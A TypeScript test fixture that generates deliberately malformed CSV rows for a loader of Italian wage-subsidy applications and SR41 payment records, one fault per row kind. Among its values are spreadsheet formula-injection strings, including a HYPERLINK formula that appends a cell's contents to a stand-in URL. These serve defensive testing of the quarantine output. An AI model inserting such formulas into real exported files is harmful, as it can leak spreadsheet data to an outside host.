/**
 * The hostile corpus's bad rows, one maker per kind: each bends a valid row of a base
 * application in exactly one way, so that the rule it breaks is the first the loader checks,
 * and says which reason code that must give. Variants (the `n`-th row of a kind) walk through
 * the ways a real export gets each rule wrong.
 */
import { addDays } from '../../../src/model/calendar';
import type { Random } from '../../seed/random';
import type { Made, Row } from './intent';

export interface BaseApplication {
  index: number;
  /** Its PRESENTATA row. */
  application: Row;
  /** Day of its AUTORIZZATA row, or null: presented only. */
  authorisedOn: string | null;
  /** Its valid SR41 (RICEVUTO), written only for authorised applications. */
  sr41: Row;
  /** A region that is not its office's. */
  otherRegion: string;
}

export interface MakeArgs {
  base: BaseApplication;
  /** The how-many-th row of this kind: picks the variant. */
  n: number;
  /** Unique over the file: makes the bad row's key. */
  serial: number;
  rng: Random;
  referenceDate: string;
  hugeFieldLength: number;
}

export interface KindMaker {
  make(a: MakeArgs): Made;
  /** Only bases for which this holds. */
  needs?(b: BaseApplication): boolean;
  /** Must come after the base's valid rows in the file (same key: transitions, duplicates). */
  followsBase?: boolean;
  /** Rows of this kind, when not the corpus's `badPerKind`. */
  count?: number;
}

const pick = <T>(n: number, variants: readonly T[]): T => variants[n % variants.length];
/** A variant of the change a fault makes (variants of one kind may touch other columns). */
const change = (n: number, variants: ReadonlyArray<Row>): Row => pick(n, variants);
const authorised = (b: BaseApplication) => b.authorisedOn !== null;

/** Values that a spreadsheet would run as formulas (or that hide one behind a tab or CR). */
export const FORMULA_PREFIXES = [
  '=HYPERLINK("http://example.invalid/?q="&A1;"Apri")', '+39 06 1234', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1',
] as const;

/**
 * A fresh copy of the base row under a new key, dressed every other time: a formula-like key
 * (the quarantine file must not run it), or a quoted line break and quotes (line numbers and
 * quoting must hold). The fault is applied on top, so it always wins.
 */
function start(base: Row, keyColumn: string, textColumn: string, a: MakeArgs, dressed = true): { row: Row; dress?: string } {
  const row: Row = { ...base, [keyColumn]: `${base[keyColumn]}-B${a.serial}` };
  switch (dressed ? a.serial % 4 : -1) {
    case 0:
      row[keyColumn] = `${pick(a.serial >> 2, FORMULA_PREFIXES)}-B${a.serial}`;
      return { row, dress: 'FORMULA_KEY' };
    case 1:
      row[textColumn] = `${row[textColumn]} "bis"\r\nriga ${a.serial}`;
      return { row, dress: 'QUOTED_LINE_BREAK' };
    default:
      return { row };
  }
}

const app = (a: MakeArgs, dressed = true) => start(a.base.application, 'protocollo', 'matricola', a, dressed);
const sr = (a: MakeArgs, dressed = true) => start(a.base.sr41, 'id_sr41', 'id_sr41', a, dressed);
const csvValue = (v: string) => (/[;"\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);

/** A row with one field replaced. */
function bent(s: { row: Row; dress?: string }, change: Row, expect: Made['expect'], kind?: string): Made {
  return { row: { ...s.row, ...change }, expect, dress: s.dress, kind };
}

/** Lines whose field count is wrong, given the file's column order. */
function wrongFieldCount(s: { row: Row; dress?: string }, n: number, textColumn: string): Made {
  const row = s.row;
  const variants = [
    (columns: readonly string[]) => columns.slice(0, -1).map((c) => csvValue(row[c])).join(';'), // a field short
    (columns: readonly string[]) => [...columns.map((c) => csvValue(row[c])), 'in più'].join(';'), // a field too many
    // A `;` inside a value that the producer forgot to quote.
    (columns: readonly string[]) => columns.map((c) => (c === textColumn ? 'SENZA;VIRGOLETTE' : csvValue(row[c]))).join(';'),
  ];
  return { row: pick(n, variants), expect: 'COLONNE_ERRATE', dress: s.dress };
}

/** Text faults of the line itself: bytes that are not UTF-8, a BOM or a NUL past the file's start. */
function unreadable(s: { row: Row }, n: number, textColumn: string): Made {
  const row = s.row;
  const plain = (columns: readonly string[], r: Row) => columns.map((c) => csvValue(r[c])).join(';');
  const mark = '\u0007';
  const variants: Array<() => Made> = [
    // Latin-1 "à" (0xE0) where UTF-8 wants two more bytes.
    () => ({ row: { ...row, [textColumn]: `SOCIET${mark} COOP` }, rawBytes: [0xe0], kind: 'LATIN1', expect: 'CODIFICA_NON_VALIDA' }),
    // Windows-1252 apostrophe (0x92): a lone continuation byte.
    () => ({ row: { ...row, [textColumn]: `L${mark}ARTE` }, rawBytes: [0x92], kind: 'WINDOWS_1252', expect: 'CODIFICA_NON_VALIDA' }),
    // An overlong encoding of "/" (0xC0 0xAF), refused by every UTF-8 decoder.
    () => ({ row: { ...row, [textColumn]: `A${mark}B` }, rawBytes: [0xc0, 0xaf], kind: 'OVERLONG_UTF8', expect: 'CODIFICA_NON_VALIDA' }),
    // A BOM at the start of a line: two files glued together.
    () => ({ row: (columns) => `\uFEFF${plain(columns, row)}`, kind: 'BOM_LINE_START', expect: 'CODIFICA_NON_VALIDA' }),
    () => ({ row: { ...row, [textColumn]: `M\uFEFF1` }, kind: 'BOM_IN_FIELD', expect: 'CODIFICA_NON_VALIDA' }),
    () => ({ row: { ...row, [textColumn]: `M\u00001` }, kind: 'NUL_BYTE', expect: 'CODIFICA_NON_VALIDA' }),
    // The second file's header, BOM and all, in the middle of the first.
    () => ({ row: (columns) => `\uFEFF${columns.join(';')}`, kind: 'GLUED_HEADER', expect: 'CODIFICA_NON_VALIDA' }),
  ];
  return pick(n, variants)();
}

const longText = (length: number) => 'ABCDEFGHIJ'.repeat(Math.ceil(length / 10)).slice(0, length);

export const APPLICATION_KINDS: Readonly<Record<string, KindMaker>> = {
  CAMPO_OBBLIGATORIO: {
    make: (a) => {
      const column = pick(a.n, ['protocollo', 'prestazione', 'causale', 'sede', 'regione', 'plurilocalizzata', 'matricola', 'modalita_pagamento', 'lavoratori', 'ore_richieste', 'periodo_dal', 'periodo_al', 'data_presentazione', 'stato', 'data_stato', 'ore_autorizzate']);
      // ore_autorizzate is required only with AUTORIZZATA.
      const change = column === 'ore_autorizzate' ? { stato: 'AUTORIZZATA', ore_autorizzate: '' } : { [column]: '' };
      return bent(app(a), change, 'CAMPO_OBBLIGATORIO');
    },
  },
  VALORE_NON_AMMESSO: {
    make: (a) => bent(app(a), change(a.n, [{ prestazione: 'cigo' }, { prestazione: 'CIGO ' }, { causale: 'COVID' }, { plurilocalizzata: '2' }, { modalita_pagamento: 'BONIFICO' }, { stato: 'APPROVATA' }]), 'VALORE_NON_AMMESSO'),
  },
  SEDE_SCONOSCIUTA: { make: (a) => bent(app(a), { sede: pick(a.n, ['9999', '01O1', ' 0101', '=1+1']) }, 'SEDE_SCONOSCIUTA') },
  REGIONE_SCONOSCIUTA: { make: (a) => bent(app(a), { regione: pick(a.n, ['99', 'LZ', '1']) }, 'REGIONE_SCONOSCIUTA') },
  REGIONE_NON_COERENTE: { make: (a) => bent(app(a), { regione: a.base.otherRegion }, 'REGIONE_NON_COERENTE') },
  PLURILOCALIZZATA_NON_CIGD: { make: (a) => bent(app(a), { plurilocalizzata: '1' }, 'PLURILOCALIZZATA_NON_CIGD') },
  CIGD_NON_DIRETTO: { make: (a) => bent(app(a), { prestazione: 'CIGD', modalita_pagamento: 'CONGUAGLIO' }, 'CIGD_NON_DIRETTO') },
  NUMERO_NON_VALIDO: {
    make: (a) => bent(app(a), change(a.n, [
      { lavoratori: '0' }, { lavoratori: '-3' }, { lavoratori: '1.5' }, { lavoratori: '1e3' }, { lavoratori: ' 5' }, { lavoratori: 'tre' },
      { ore_richieste: '1.234,5' }, { ore_richieste: '-1' }, { ore_richieste: '12,5' }, { ore_richieste: '+400' },
    ]), 'NUMERO_NON_VALIDO'),
  },
  ORE_AUTORIZZATE_NON_AMMESSE: {
    make: (a) => bent(app(a), change(a.n, [{ ore_autorizzate: '10' }, { stato: 'AUTORIZZATA', ore_autorizzate: '400.5' }]), 'ORE_AUTORIZZATE_NON_AMMESSE'),
  },
  PERIODO_NON_VALIDO: {
    make: (a) => bent(app(a), { periodo_dal: a.base.application.periodo_al, periodo_al: a.base.application.periodo_dal }, 'PERIODO_NON_VALIDO'),
  },
  DATA_NON_VALIDA: {
    make: (a) => bent(app(a), change(a.n, [
      { data_presentazione: '2021-02-30' }, { data_presentazione: '31/03/2021' }, { periodo_dal: '2021-3-1' }, { periodo_al: '2021-06-31' },
      { data_stato: '2021-13-01' }, { data_presentazione: '20210301' },
    ]), 'DATA_NON_VALIDA'),
  },
  DATA_FUTURA: {
    make: (a) => {
      const future = addDays(a.referenceDate, 1 + (a.n % 30));
      return bent(app(a), a.n % 2 ? { data_stato: future } : { data_presentazione: future, data_stato: future }, 'DATA_FUTURA');
    },
  },
  DATA_STATO_NON_COERENTE: {
    make: (a) => bent(app(a), { data_stato: addDays(a.base.application.data_presentazione, -1 - (a.n % 5)) }, 'DATA_STATO_NON_COERENTE'),
  },
  TRANSIZIONE_NON_AMMESSA: {
    needs: authorised,
    followsBase: true,
    // The base is AUTORIZZATA: only ANNULLATA (revoca) may follow.
    make: (a) => ({
      row: { ...a.base.application, stato: pick(a.n, ['RESPINTA', 'IN_ISTRUTTORIA', 'PRESENTATA']), data_stato: addDays(a.base.authorisedOn!, 1 + (a.n % 7)) },
      expect: 'TRANSIZIONE_NON_AMMESSA',
    }),
  },
  COLONNE_ERRATE: { make: (a) => wrongFieldCount(app(a), a.n, 'matricola') },
  // Undressed: a BOM before a quoted first field would break the line's quoting, another fault.
  CODIFICA_NON_VALIDA: { make: (a) => unreadable(app(a, false), a.n, 'matricola') },
  CAMPO_TROPPO_LUNGO: {
    make: (a) => bent(app(a), { [pick(a.n, ['matricola', 'protocollo'])]: longText(501 + ((a.n * 397) % 5000)) }, 'CAMPO_TROPPO_LUNGO'),
  },
  HUGE_FIELD: {
    count: 1,
    make: (a) => bent(app(a), { protocollo: longText(a.hugeFieldLength) }, 'CAMPO_TROPPO_LUNGO', 'HUGE_FIELD'),
  },
  DUPLICATE: { followsBase: true, make: (a) => ({ row: a.base.application, expect: 'DUPLICATE' }) },
};

export const SR41_KINDS: Readonly<Record<string, KindMaker>> = {
  CAMPO_OBBLIGATORIO: {
    needs: authorised,
    make: (a) => bent(sr(a), { [pick(a.n, ['id_sr41', 'protocollo', 'codice_fiscale', 'competenza', 'ore', 'importo', 'data_ricezione', 'stato', 'data_stato'])]: '' }, 'CAMPO_OBBLIGATORIO'),
  },
  VALORE_NON_AMMESSO: {
    needs: authorised,
    make: (a) => bent(sr(a), change(a.n, [{ stato: 'Ricevuto' }, { stato: 'PAGATA' }, { stato: 'SCARTATO', motivo_scarto: 'BOH' }]), 'VALORE_NON_AMMESSO'),
  },
  MOTIVO_SCARTO_NON_COERENTE: {
    needs: authorised,
    make: (a) => bent(sr(a), change(a.n, [{ stato: 'SCARTATO', motivo_scarto: '' }, { motivo_scarto: 'ALTRO' }]), 'MOTIVO_SCARTO_NON_COERENTE'),
  },
  CODICE_FISCALE_NON_VALIDO: {
    needs: authorised,
    make: (a) => bent(sr(a), { codice_fiscale: pick(a.n, ['RSSMRA80A01L219', 'RSSMRA80Z01L219X', '1234567890123456', '=HYPERLINK("http://example.invalid")', 'RSSMRA80A01L219XX']) }, 'CODICE_FISCALE_NON_VALIDO'),
  },
  IBAN_MANCANTE: { needs: authorised, make: (a) => bent(sr(a), { iban: '' }, 'IBAN_MANCANTE') },
  DATA_NON_VALIDA: {
    needs: authorised,
    make: (a) => bent(sr(a), change(a.n, [{ competenza: '2021-13' }, { competenza: '2021/03' }, { competenza: '03-2021' }, { data_ricezione: '2021-02-29' }, { data_stato: '2021-04-31' }]), 'DATA_NON_VALIDA'),
  },
  NUMERO_NON_VALIDO: {
    needs: authorised,
    make: (a) => bent(sr(a), change(a.n, [{ ore: '0' }, { ore: '-8' }, { ore: '8,5' }, { importo: '1.100,50' }, { importo: '-1' }, { importo: '€750' }]), 'NUMERO_NON_VALIDO'),
  },
  DATA_FUTURA: {
    needs: authorised,
    make: (a) => {
      const future = addDays(a.referenceDate, 1 + (a.n % 30));
      return bent(sr(a), a.n % 2 ? { data_stato: future } : { data_ricezione: future, data_stato: future }, 'DATA_FUTURA');
    },
  },
  DATA_STATO_NON_COERENTE: {
    needs: authorised,
    make: (a) => bent(sr(a), { data_stato: addDays(a.base.sr41.data_ricezione, -1 - (a.n % 3)) }, 'DATA_STATO_NON_COERENTE'),
  },
  DOMANDA_SCONOSCIUTA: { needs: authorised, make: (a) => bent(sr(a), { protocollo: `NESSUNA-${a.serial}` }, 'DOMANDA_SCONOSCIUTA') },
  DOMANDA_NON_AUTORIZZATA: {
    make: (a) => {
      if (!a.base.authorisedOn) {return bent(sr(a), {}, 'DOMANDA_NON_AUTORIZZATA');} // presented only
      const early = addDays(a.base.authorisedOn, -1);
      return bent(sr(a), { data_ricezione: early, data_stato: early }, 'DOMANDA_NON_AUTORIZZATA');
    },
  },
  COMPETENZA_FUORI_PERIODO: {
    needs: authorised,
    make: (a) => bent(sr(a), { competenza: pick(a.n, ['2019-01', '2020-12', a.referenceDate.slice(0, 4) + '-12']) }, 'COMPETENZA_FUORI_PERIODO'),
  },
  TRANSIZIONE_NON_AMMESSA: {
    needs: authorised,
    followsBase: true,
    // The base is RICEVUTO: it may go on to IN_LAVORAZIONE, SCARTATO or ANNULLATO, not straight to payment.
    make: (a) => ({
      row: { ...a.base.sr41, stato: pick(a.n, ['PAGATO', 'IN_PAGAMENTO']), data_stato: addDays(a.base.sr41.data_ricezione, 1 + (a.n % 7)) },
      expect: 'TRANSIZIONE_NON_AMMESSA',
    }),
  },
  COLONNE_ERRATE: { needs: authorised, make: (a) => wrongFieldCount(sr(a), a.n, 'iban') },
  CODIFICA_NON_VALIDA: { needs: authorised, make: (a) => unreadable(sr(a, false), a.n, 'iban') },
  CAMPO_TROPPO_LUNGO: {
    needs: authorised,
    make: (a) => bent(sr(a), { [pick(a.n, ['iban', 'id_sr41'])]: longText(501 + ((a.n * 397) % 5000)) }, 'CAMPO_TROPPO_LUNGO'),
  },
  HUGE_FIELD: {
    count: 1,
    needs: authorised,
    make: (a) => bent(sr(a), { iban: longText(a.hugeFieldLength) }, 'CAMPO_TROPPO_LUNGO', 'HUGE_FIELD'),
  },
  DUPLICATE: { needs: authorised, followsBase: true, make: (a) => ({ row: a.base.sr41, expect: 'DUPLICATE' }) },
};
